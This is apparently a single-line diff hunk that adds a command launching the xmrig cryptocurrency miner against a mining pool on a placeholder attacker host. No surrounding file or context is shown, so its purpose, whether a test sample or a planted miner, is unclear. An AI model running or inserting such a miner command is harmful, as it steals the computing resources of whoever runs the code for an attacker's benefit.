@@ -1,0 +1,1 @@
+./xmrig -o pool.attacker.test:3333
